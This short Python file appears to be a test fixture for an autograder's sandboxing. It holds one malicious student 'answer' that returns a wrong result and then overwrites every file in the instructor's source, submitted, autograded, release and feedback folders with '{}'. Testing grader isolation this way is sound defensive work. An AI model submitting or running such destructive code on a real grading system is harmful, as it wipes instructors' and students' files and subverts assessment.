"""Change the instructor's files and other submissions."""

ANSWERS = {
    "double": """
import glob
def double(x): return 0
for folder in ("source", "submitted", "autograded", "release", "feedback"):
    for path in glob.glob("{root}/" + folder + "/*/*/*") + glob.glob("{root}/" + folder + "/*/*"):
        try: open(path, "w").write("{}")
        except OSError as error: print(error)
""",
}
